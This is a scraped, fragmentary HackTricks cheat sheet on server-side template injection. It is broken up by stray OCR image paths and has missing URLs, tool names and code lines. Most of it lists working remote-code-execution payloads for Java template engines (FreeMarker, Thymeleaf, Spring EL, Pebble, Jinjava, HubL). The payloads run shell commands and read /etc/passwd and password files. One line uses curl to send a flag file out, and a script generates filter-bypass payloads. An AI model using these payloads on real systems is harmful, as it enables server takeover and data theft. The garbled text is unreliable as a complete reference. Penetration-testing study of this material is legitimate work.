SSTI (Server Side Template Injection)

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

RootedCON is the most relevant cybersecurity event in Spain and one of the most important in Europe. With the mission of promoting technical knowledge, this congress is a boiling meeting point for technology and cybersecurity professionals in every discipline.

What is SSTI (Server-Side Template Injection)

Server-side template injection is a vulnerability that occurs when an attacker can inject malicious code into a template that is executed on the server. This vulnerability can befound in various technologies, including Jinja.

Jinja is a popular template engine used in web applications. Let's consider an example that demonstrates a vulnerable code snippet using Jinja:

output = template.render(name=request.args.get('name'))

In this vulnerable code, the name parameter from the user's request is directly passed into the template using the render function. This can potentially allow an attacker to inject malicious code into the name parameter, leading to server-side template injection.

For instance, an attacker could craft a request with a payload like this:{{bad-stuff-here}}

The payload {{bad-stuff-here}} is injected into the name parameter. This payload can contain Jinja template directives that enable the attacker to execute unauthorized code or manipulate the template engine, potentially gaining control over the server.To prevent server-side template injection vulnerabilities, developers should ensure that user input is properly sanitized and validated before being inserted into templates. Implementing input validation and using context-aware escaping techniques can help mitigate the risk of this vulnerability.


To detect Server-Side Template Injection (SSTI), initially, fuzzing the template is a straightforward approach. This involves injecting a sequence of special characters (${{<%[%'"}}%\) into the template and analyzing the differences in the server's response to regular data versus this special payload. Vulnerability indicators include:

  • Thrown errors, revealing the vulnerability and potentially the template engine.• Absence of the payload in the reflection, or parts of it missing, implying the server processes it differently than regular data.

  • Plaintext Context: Distinguish from XSS by checking if the server evaluates template expressions (e.g., {{7*7}}, ${7*7}).

  • Code Context: Confirm vulnerability by altering input parameters. For instance, changing greeting in to see if the server's output is dynamic or fixed, like in greeting=data.username}}hello returning the username.

Identification Phase

Identifying the template engine involves analyzing error messages or manually testing various language-specific payloads. Common payloadscausing errors include ${7/0}, {{7/0}}, and <%= 7/0 %>. Observing the server's response to mathematical operations helps pinpoint the specific template engine.


an efficient SSTI + CSTI scanner which utilizes novel polyglots

tinja url -u "" -H "Authentication: Bearer ey..."
tinja url -u "" -d "username=Kirlia"  -c "PHPSESSID=ABC123..."

python3 -i -l 5
python3 -u "" --crawl 5 --forms
python3 -u "" -s

python2.7 ./ -u '*' --os-shell
python2.7 ./ -u "*&comment=supercomment&link"
python2.7 ./ -u "*&comment=A&link"--level 5 -e jade

an interactive table containing the most efficient template injection polyglots along with the expected responses of the 44 most important template engines.



In this wordlist you can find variables defined in the environments of some of the engines mentioned below:


Java - Basic injection

// if ${...} doesn't work try #{...}, *{...}, @{...} or ~{...}.Java - Retrieve the system’s environment variables


Java - Retrieve /etc/passwd

${T(java.lang.Runtime).getRuntime().exec('cat etc/passwd')}


FreeMarker (Java)

You can try your payloads at

  • {{7*7}} = {{7*7}}

  • ${7*7} = 49

  • #{7*7} = 49 -- (legacy)

  • ${7*'7'} Nothing• ${foobar}

<#assign ex = "freemarker.template.utility.Execute"?new()>${ ex("id")}
[#assign ex = 'freemarker.template.utility.Execute'?new()]${ ex('id')}

${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/home/carlos/my_password.txt').toURL().openStream().readAllBytes()?join(" ")}

Freemarker - Sandbox bypass⚠ only works on Freemarker versions below 2.3.30

<#assign classloader=article.class.protectionDomain.classLoader>
<#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>
<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)>
<#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>

More information

Velocity (Java)

// I think this doesn't work
#foreach($i in [1..$out.available()])

// This should work?
#set($null=$process.waitFor() )

More informationIn Thymeleaf, a common test for SSTI vulnerabilities is the expression ${7*7}, which also applies to this template engine. For potential remote code execution, expressions like the following can be used:

  • SpringEL:

  • OGNL:

    ${#rt = @java.lang.Runtime@getRuntime(),#rt.exec("calc")}

Thymeleaf requires these expressions to be placed within specific attributes. However, expression inlining is supported for other template locations, using syntax like [[...]] or [(...)]. Thus, a simple SSTI test payload might look like [[${7*7}]].

However, the likelihood of this payload working is generally low. Thymeleaf's default configuration doesn't support dynamic template generation; templates must be predefined. Developers would need to implement their own TemplateResolver to create templates from strings on-the-fly, which is uncommon.

Thymeleaf also offers expression preprocessing, where expressions within double underscores (__...__) are preprocessed. This feature can be utilized in the construction of expressions, as demonstrated in Thymeleaf's documentation:


Example of Vulnerability in Thymeleaf

Consider the following code snippet, which could be susceptible to exploitation:

<a th:href="@{__${path}__}" th:title="${title}">
<a th:href="${''.getClass().forName('java.lang.Runtime').getRuntime().exec('curl -d @/flag.txt')}" th:title='pepito'>This indicates that if the template engine processes these inputs improperly, it might lead to remote code execution accessing URLs like:


More information

pageEL - Expression Language

Spring Framework (Java)


Bypass filters

Multiple variable expressions can be used, if ${...} doesn't work try #{...}, *{...}, @{...} or ~{...}.

  • Read /etc/passwd

  • Custom Script for payload generation


## Written By Zeyad Abulaban (zAbuQasem)
# Usage: python3 "id"

from sys import argv

cmd = list(argv[1].strip())
print("Payload: ", cmd , end="\n\n")
converted = [ord(c) for c in cmd]
base_payload = '*{T('
end_payload = '.getInputStream())}'

count = 1
for i in converted:
    if count == 1:
        base_payload += f"(T(java.lang.Character).toString({i}).concat"
        count += 1
    elif count == len(converted):base_payload += f"(T(java.lang.Character).toString({i})))"
        base_payload += f"(T(java.lang.Character).toString({i})).concat"
        count += 1

print(base_payload + end_payload)

More Information

Spring View Manipulation (Java)

__${newjava.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x
__${T(java.lang.Runtime).getRuntime().exec("touch executed")}__::.x
pageEL - Expression Language

Pebble (Java)

  • {{ someString.toUPPERCASE() }}

Old version of Pebble ( < version 3.0.9):

{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('ls -la') }}

New version of Pebble :

{% set cmd = 'id' %}

{% set bytes = (1).TYPE
     .readAllBytes() %}
{{ (1).TYPE
     .newInstance(([bytes]).toArray()) }}

Jinjava (Java)

{{'a'.toUpperCase()}} would result in 'A'
{{ request }} would return a request object like com.[...].context.TemplateContextRequest@23548206

Jinjava is an open source project developed by Hubspot, available at

Jinjava -Command execution

Fixed by

{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"new java.lang.String('xxx')\")}}

{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"whoami\\\"); x.start()\")}}

{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"netstat\\\");\")}}

{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"uname\\\",\\\"-a\\\");\")}}

More information

Hubspot - HuBL (Java)

  • {% %} statement delimiters• {{ }} expression delimiters

  • {# #} comment delimiters

  • {{ request }} -com.hubspot.content.hubl.context.TemplateContextRequest@23548206

  • {{'a'.toUpperCase()}} - "A"

  • {{'a'.concat('b')}} - "ab"

  • {{'a'.getClass()}} - java.lang.String

  • {{request.getClass()}} - class com.hubspot.content.hubl.context.TemplateContextRequest

  • {{request.getClass().getDeclaredMethods()[0]}} - public boolean com.hubspot.content.hubl.context.TemplateContextRequest.isDebug()Search for "com.hubspot.content.hubl.context.TemplateContextRequest" and discovered the Jinjava project on Github.

//output: False

//Using string 'a' to get an instance of class sun.misc.Launcher
//output: sun.misc.Launcher@715537d4

//It is also possible to get a new object of the Jinjava class
//output: com.hubspot.jinjava.JinjavaConfig@78a56797

//It was also possible to call methods on the created object by combining the

{% %} and {{ }} blocks
{% set ji='a'.getClass().forName('com.hubspot.jinjava.Jinjava').newInstance().newInterpreter() %}

//Here, I created a variable 'ji' with new instance of com.hubspot.jinjava.Jinjava class and obtained reference to the newInterpreter method. In the next block, I called the render method on 'ji' with expression {{1*2}}.

//{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"new java.lang.String('xxx')\")}}
//output: xxx

{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"whoami\\\"); x.start()\")}}
//output: java.lang.UNIXProcess@1e5f456e

//RCE with
{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"netstat\\\");\")}}
//output: netstat execution

//Multiple arguments to the commands
Payload: {{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"var x=new java.lang.ProcessBuilder; x.command(\\\"uname\\\",\\\"-a\\\");\")}}
//Output: Linux bumpy-puma 4.9.62-hs4.el6.x86_64 #1 SMP Fri Jun 1 03:00:47 UTC 2018 x86_64 x86_64 x86_64 GNU/Linux

More information

ExpressionLanguage - EL (Java)

  • ${"aaaa"} - "aaaa"

  • ${99999+1} - 100000.

  • #{7*7} - 49

  • ${{7*7}} - 49

  • ${{request}}, ${{session}}, {{faceContext}}

Expression Language (EL) is a fundamental feature that facilitates interaction between the presentation layer (like web pages) and the application logic (like managed beans) in JavaEE. It's used extensively across multiple JavaEE technologies to streamline this communication. The key JavaEE technologies utilizing EL include:• JavaServer Faces (JSF): Employs EL to bind components in JSF pages to the corresponding backend data and actions.

  • JavaServer Pages (JSP): EL is used in JSP for accessing and manipulating data within JSP pages, making it easier to connect page elements to the application data.

  • Contexts and Dependency Injection for Java EE (CDI): EL integrates with CDI to allow seamless interaction between the web layer and managed beans, ensuring a more coherent application structure.

Check the following page to learn more about the exploitation of EL interpreters:

pageEL - Expression Language

Groovy (Java)

